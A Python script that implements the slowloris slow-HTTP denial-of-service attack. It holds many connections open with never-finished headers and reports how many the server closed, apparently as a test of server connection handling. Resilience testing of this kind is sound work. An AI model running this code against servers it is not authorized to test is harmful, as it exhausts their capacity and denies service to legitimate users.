#!/usr/bin/env python3
"""Slow HTTP clients (the "slowloris" attack): COUNT connections to HOST:PORT, each sending the
start of a request and then one more header line every second for SECONDS, never finishing it.
A server with a thread per connection runs out of threads; one that multiplexes its connections
keeps serving others. Prints "slowloris connected=N open=N closed=N" at the end: the connections
the server closed meanwhile (an idle timeout shorter than SECONDS would close them)."""

import socket
import sys
import time


def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    conns = []
    for i in range(count):
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(b"GET /slow-%d HTTP/1.1\r\nHost: %s\r\n" % (i, host.encode()))
        conns.append(s)
    print("slowloris connected=%d" % len(conns), flush=True)
    closed = set()
    deadline = time.monotonic() + seconds
    line = 0
    while time.monotonic() < deadline:
        time.sleep(1)
        line += 1
        for i, s in enumerate(conns):
            if i in closed:
                continue
            try:
                s.sendall(b"X-Slow-%d: %d\r\n" % (line, i))
            except OSError:
                closed.add(i)
    # a server that closed a connection has sent FIN (or RST): look without blocking
    for i, s in enumerate(conns):
        if i in closed:
            continue
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                closed.add(i)
        except BlockingIOError:
            pass
        except OSError:
            closed.add(i)
    print("slowloris connected=%d open=%d closed=%d" % (len(conns), len(conns) - len(closed), len(closed)), flush=True)
    for s in conns:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
